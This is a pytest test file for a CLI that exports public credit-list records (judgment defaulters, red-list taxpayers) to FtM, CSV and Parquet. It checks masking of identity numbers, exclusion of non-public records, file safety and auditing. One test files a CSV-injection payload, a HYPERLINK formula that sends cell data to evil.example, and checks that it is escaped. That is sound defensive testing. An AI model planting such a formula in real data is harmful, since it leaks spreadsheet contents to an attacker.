"""``socialcredit export``: the public lists for other tools hold exactly what public search shows.

Pinned defects (each fails on main, which has no export at all): a non-public, suspended, revoked or not yet
applying record exported; a person's full identity number (or birth date) anywhere in the bytes written; an
FtM entity that the library rejects; an extract whose columns differ from its data dictionary; an existing
file overwritten or a half-written one left behind; bad input answered with anything but exit 2.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from followthemoney import model
from typer.testing import CliRunner, Result

from factories import org_id, person_id
from process_helpers import file, food_row
from socialcredit import audit
from socialcredit.catalogue import Catalogue
from socialcredit.cli import app
from socialcredit.export import COLUMNS, public_listings
from socialcredit.export.ftm import validate
from socialcredit.identifiers import mask
from socialcredit.registry import apply_event, revoke
from socialcredit.settings import get_settings
from socialcredit.store import Database

runner = CliRunner()
DAY = dt.timedelta(days=1)
PERSON = person_id(11)  # 王芳, a judgment defaulter
REP = person_id(13)  # legal representative of the company
CONTROLLER = person_id(15)  # its actual controller (never public)
WATCHED = person_id(17)  # on the key-attention list (a category that is not public)
SUSPENDED = person_id(19)
REVOKED = person_id(23)
NOTICE = person_id(25)  # food-and-drug blacklist, still in its 5 days of notice
SECRET_IDS = (PERSON, REP, CONTROLLER, WATCHED, SUSPENDED, REVOKED, NOTICE)
COMPANY = org_id(1)
RED = org_id(2, region="310101")  # an A-grade taxpayer: on the red list, public, and no sanction


def invoke(*args: str | Path) -> Result:
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture
def filed(
    db: Database, catalogue: Catalogue, now: dt.datetime, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[dt.datetime]:
    """A registry with two public records in force and four that must not be exported; yields an instant after."""
    monkeypatch.setenv("SOCIALCREDIT_LOOKUP_HASH_KEY_FILE", str(tmp_path / "lookup.key"))
    get_settings.cache_clear()
    file(db, catalogue, now, external_id="P", subject_id=PERSON, subject_name="王芳")
    file(
        db,
        catalogue,
        now,
        external_id="C",
        subject_id=COMPANY,
        subject_name="北京某公司",
        legal_representative_id=REP,
        legal_representative_name="李强",
        actual_controller_id=CONTROLLER,
        actual_controller_name="赵敏",
    )
    file(
        db,
        catalogue,
        now,
        external_id="W",
        authority="ndrc",
        category="credit.key_attention",
        subject_id=WATCHED,
        subject_name="钱七",
        decided_on="2026-11-01",
    )
    sid = file(db, catalogue, now, external_id="S", subject_id=SUSPENDED, subject_name="孙八")
    rid = file(db, catalogue, now, external_id="R", subject_id=REVOKED, subject_name="周九")
    file(db, catalogue, now, _row=food_row(subject_id=NOTICE, subject_name="吴十", decided_on="2026-11-19"))
    file(
        db,
        catalogue,
        now,
        external_id="A",
        authority="sta",
        category="tax.a_grade",
        subject_id=RED,
        subject_name="上海某公司",
        decided_on="2026-11-01",
    )
    with db.engine.begin() as conn:
        apply_event(conn, sid, "objected", lambda s: s.with_(suspensions=((now, None),)), "test", now)
        revoke(conn, rid, "set aside on appeal", "test", now)
    yield now + DAY


def _export(tmp_path: Path, at: dt.datetime, fmt: str, name: str) -> Path:
    out = tmp_path / name
    result = invoke("export", "--format", fmt, "--out", out, "--at", at.isoformat())
    assert result.exit_code == 0, result.output
    return out


def _everything_written(tmp_path: Path, at: dt.datetime) -> dict[str, bytes]:
    """Every byte each format writes: extracts, dictionaries, measures tables, and standard output."""
    (tmp_path / "pq").mkdir()
    _export(tmp_path, at, "ftm", "lists.ftm.jsonl")
    _export(tmp_path, at, "csv", "lists.csv")
    _export(tmp_path / "pq", at, "parquet", "lists.parquet")
    written = {str(p.relative_to(tmp_path)): p.read_bytes() for p in tmp_path.rglob("lists*")}
    # Parquet pages are compressed: its values are searched as text, and its bytes as written.
    rows = pq.read_table(tmp_path / "pq" / "lists.parquet").to_pylist()
    written["pq/lists.parquet (values)"] = json.dumps(rows, ensure_ascii=False, default=str).encode()
    for fmt in ("ftm", "csv"):
        written[f"stdout.{fmt}"] = invoke(
            "export", "--format", fmt, "--out", "-", "--at", at.isoformat()
        ).stdout_bytes
    return written


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_only_published_records_in_force_are_exported(filed: dt.datetime, tmp_path: Path) -> None:
    rows = _csv_rows(_export(tmp_path, filed, "csv", "lists.csv").read_bytes())
    assert sorted(r["subject_name"] for r in rows) == ["上海某公司", "北京某公司", "王芳"]
    by_name = {r["subject_name"]: r for r in rows}
    assert (
        by_name["王芳"]["subject_id_masked"] == mask(PERSON) and by_name["王芳"]["subject_kind"] == "person"
    )
    company = by_name["北京某公司"]
    assert company["subject_id_masked"] == COMPANY  # organisations' codes are public
    assert company["legal_representative_name"] == "李强" and company["list"] == "black"
    assert company["category"] == "court.judgment_defaulter" and company["authority"] == "人民法院"
    assert company["decided_on"] == "2025-06-01" and company["effective_until"] >= company["effective_from"]
    assert int(company["measure_count"]) > 0 and company["memoranda"]
    assert by_name["上海某公司"]["list"] == "red"
    # FtM: one Sanction per published record of a black list; the red list's commendation is no sanction.
    lines = _export(tmp_path, filed, "ftm", "lists.jsonl").read_text(encoding="utf-8").splitlines()
    entities = [json.loads(line) for line in lines]
    sanctions = [e for e in entities if e["schema"] == "Sanction"]
    assert len(sanctions) == 2 and "上海某公司" not in {
        n for e in entities for n in e["properties"].get("name", [])
    }


def test_no_full_identity_number_or_birth_date_is_written(filed: dt.datetime, tmp_path: Path) -> None:
    written = _everything_written(tmp_path, filed)
    assert set(written) == {
        "lists.ftm.jsonl",
        "lists.csv",
        "lists.dictionary.csv",
        "lists.measures.csv",
        "pq/lists.parquet",
        "pq/lists.parquet (values)",
        "pq/lists.dictionary.csv",
        "pq/lists.measures.csv",
        "stdout.ftm",
        "stdout.csv",
    }
    assert all(written.values())
    for name, data in written.items():
        for pid in SECRET_IDS:
            assert pid.encode() not in data, f"{pid} in {name}"
            assert pid[6:14].encode() not in data, f"the birth date of {pid} in {name}"
        assert "赵敏".encode() not in data  # the actual controller is not published
        assert "钱七".encode() not in data and "孙八".encode() not in data and "周九".encode() not in data


def test_ftm_entities_validate_and_link(filed: dt.datetime, tmp_path: Path) -> None:
    lines = _export(tmp_path, filed, "ftm", "lists.jsonl").read_text(encoding="utf-8").splitlines()
    entities = [json.loads(line) for line in lines]
    for data in entities:
        validate(data)
        # Re-read as untrusted input: every value is cleaned again, and must come back unchanged.
        proxy = model.get_proxy(data, cleaned=False)
        assert proxy.to_dict() == data
    ids = [e["id"] for e in entities]
    assert len(ids) == len(set(ids))
    by_id = {e["id"]: e for e in entities}
    by_schema: dict[str, list[dict[str, object]]] = {}
    for e in entities:
        by_schema.setdefault(e["schema"], []).append(e)
    assert sorted(by_schema) == ["Company", "Directorship", "Person", "Sanction"]
    company = by_schema["Company"][0]
    assert company["id"] == f"socialcredit-uscc-{COMPANY}"
    assert company["properties"]["registrationNumber"] == [COMPANY]
    assert company["properties"]["topics"] == [
        "debarment"
    ]  # never "sanction" (screening tools' sanctions hit)
    for s in by_schema["Sanction"]:
        props = s["properties"]
        assert props["entity"][0] in by_id and props["authority"] == ["人民法院"]
        assert props["programId"] == ["court.judgment_defaulter"] and props["provisions"]
        assert props["startDate"] and props["endDate"]
    (role,) = by_schema["Directorship"]
    rep = by_id[role["properties"]["director"][0]]
    assert rep["properties"]["name"] == ["李强"] and role["properties"]["organization"] == [company["id"]]
    # Persons carry no identifier at all, masked or not.
    assert all("idNumber" not in p["properties"] for p in by_schema["Person"])


def test_ftm_ids_are_stable_across_exports(filed: dt.datetime, tmp_path: Path) -> None:
    first = _export(tmp_path, filed, "ftm", "a.jsonl").read_bytes()
    second = _export(tmp_path, filed, "ftm", "b.jsonl").read_bytes()
    assert first == second


def test_csv_and_parquet_have_the_dictionary_columns_exactly(filed: dt.datetime, tmp_path: Path) -> None:
    out = _export(tmp_path, filed, "csv", "lists.csv")
    dictionary = _csv_rows((tmp_path / "lists.dictionary.csv").read_bytes())
    names = [d["column"] for d in dictionary]
    assert names == [c.name for c in COLUMNS]
    assert all(d["type"] and d["description"] and d["example"] for d in dictionary)
    header = out.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header == names
    pdir = tmp_path / "p"
    pdir.mkdir()
    table = pq.read_table(_export(pdir, filed, "parquet", "lists.parquet"))
    assert table.column_names == names and table.num_rows == 3
    assert _csv_rows((pdir / "lists.dictionary.csv").read_bytes()) == dictionary
    types = {d["column"]: d["type"] for d in dictionary}
    assert {str(f.type) for f in table.schema if types[f.name] == "date"} == {"date32[day]"}
    measures = _csv_rows((tmp_path / "lists.measures.csv").read_bytes())
    assert {m["category"] for m in measures} >= {"court.judgment_defaulter"}
    assert "credit.key_attention" not in {m["category"] for m in measures}


def test_as_of_an_earlier_instant(filed: dt.datetime, tmp_path: Path, now: dt.datetime) -> None:
    # Before anything was filed: an empty extract (a header, no rows), not the records known today.
    rows = _csv_rows(_export(tmp_path, now - DAY, "csv", "before.csv").read_bytes())
    assert rows == []
    # Once the notice period of the food-and-drug record is over, it is published too.
    later = now + 10 * DAY
    names = {r["subject_name"] for r in _csv_rows(_export(tmp_path, later, "csv", "later.csv").read_bytes())}
    assert names == {"王芳", "北京某公司", "吴十", "上海某公司"}


def test_many_batches_give_the_same_listings(filed: dt.datetime, db: Database, catalogue: Catalogue) -> None:
    one = [i.state.id for b in public_listings(db.engine, catalogue, filed, batch=1) for i in b]
    all_ = [i.state.id for b in public_listings(db.engine, catalogue, filed) for i in b]
    assert one == all_ and len(one) == 3
    # Narrowed by the projection (as an export as of now is): the same listings, as no event came after.
    narrowed = [i.state.id for b in public_listings(db.engine, catalogue, filed, current=True) for i in b]
    assert narrowed == all_


def test_export_is_audited_with_its_digest(filed: dt.datetime, db: Database, tmp_path: Path) -> None:
    out = _export(tmp_path, filed, "csv", "lists.csv")
    with db.engine.connect() as conn:
        entries = [e for e in audit.query(conn) if e["action"] == "export.public_lists"]
    (entry,) = entries
    assert entry["actor"].startswith("cli:") and "format:csv" in entry["target"]
    assert entry["outcome"] == f"ok: 3 records, 3 rows, sha256:{hashlib.sha256(out.read_bytes()).hexdigest()}"


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["--format", "xml", "--out", "{d}/x"], "--format: 'xml': expected one of ftm, csv, parquet"),
        (
            ["--format", "csv", "--out", "{d}/x.csv", "--at", "yesterday"],
            "--at: 'yesterday': expected an ISO",
        ),
        (["--format", "parquet", "--out", "-"], "--out: parquet is a binary file"),
        (["--format", "csv", "--out", "{d}/missing/x.csv"], "missing: no such directory"),
        (["--format", "ftm", "--out", "{d}"], "is a directory"),
        (
            ["--format", "csv", "--out", "{d}/taken.csv"],
            "taken.csv: already exists (use --force to replace it)",
        ),
        (["--format", "parquet", "--out", "{d}/x.parquet"], "x.dictionary.csv: already exists"),
    ],
)
def test_bad_input_exits_2_with_a_one_line_reason(
    db: Database, tmp_path: Path, args: list[str], reason: str
) -> None:
    (tmp_path / "taken.csv").write_text("mine\n")
    (tmp_path / "x.dictionary.csv").write_text("mine\n")
    result = invoke("export", *[a.format(d=tmp_path) for a in args])
    assert result.exit_code == 2, result.output
    assert reason in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert (tmp_path / "taken.csv").read_text() == "mine\n"  # nothing overwritten
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]  # nothing half-written


def test_force_replaces_an_existing_extract(filed: dt.datetime, tmp_path: Path) -> None:
    out = tmp_path / "lists.csv"
    out.write_text("old\n")
    result = invoke("export", "--format", "csv", "--out", out, "--at", filed.isoformat(), "--force")
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("subject_name,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("lists")) == [
        "lists.csv",
        "lists.dictionary.csv",
        "lists.measures.csv",
    ]


def test_docs_hold_the_data_dictionary() -> None:
    # docs/exports.md is what recipients read: its table must be the dictionary the extracts are written with.
    text = (Path(__file__).parents[1] / "docs" / "exports.md").read_text(encoding="utf-8")
    for c in COLUMNS:
        line = f"| `{c.name}` | {c.type} | {'yes' if c.nullable else 'no'} | {c.description} | {c.example} |"
        assert line in text, c.name


def test_a_failed_export_leaves_no_file_and_is_audited(
    filed: dt.datetime, db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The disk fills while the last file beside the extract is written: neither the extract nor its dictionary
    # may appear (a recipient would take a lone extract for a complete one).
    def full(*_args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("socialcredit.export.run.write_measures", full)
    result = invoke("export", "--format", "csv", "--out", tmp_path / "lists.csv", "--at", filed.isoformat())
    assert result.exit_code == 2 and "lists.csv: No space left on device" in result.stderr
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith((".lists", "lists"))] == []
    with db.engine.connect() as conn:
        (entry,) = [e for e in audit.query(conn) if e["action"] == "export.public_lists"]
    assert entry["outcome"] == "error: OSError"


def test_csv_cells_are_never_spreadsheet_formulas(
    db: Database, catalogue: Catalogue, now: dt.datetime, tmp_path: Path
) -> None:
    # A name filed as a formula would run when a recipient opens the extract in a spreadsheet (CSV injection).
    formula = '=HYPERLINK("http://evil.example/?"&A1,"王芳")'
    file(db, catalogue, now, external_id="F", subject_id=PERSON, subject_name=formula)
    (row,) = _csv_rows(_export(tmp_path, now + DAY, "csv", "lists.csv").read_bytes())
    assert row["subject_name"] == "'" + formula
    pdir = tmp_path / "p"
    pdir.mkdir()
    table = pq.read_table(_export(pdir, now + DAY, "parquet", "lists.parquet"))
    assert table.column("subject_name").to_pylist() == [formula]  # typed data keeps the value as filed


def test_as_of_is_as_the_registry_knew_it_then(
    db: Database, catalogue: Catalogue, now: dt.datetime, tmp_path: Path
) -> None:
    # Revoked two days after filing: an export as of the day between still lists it (a reproducible extract of
    # that day), one as of the day after the revocation does not.
    rid = file(db, catalogue, now, external_id="L", subject_id=PERSON, subject_name="王芳")
    with db.engine.begin() as conn:
        revoke(conn, rid, "set aside on appeal", "test", now + 2 * DAY)
    between = _csv_rows(_export(tmp_path, now + DAY, "csv", "between.csv").read_bytes())
    after = _csv_rows(_export(tmp_path, now + 3 * DAY, "csv", "after.csv").read_bytes())
    assert [r["subject_name"] for r in between] == ["王芳"] and after == []
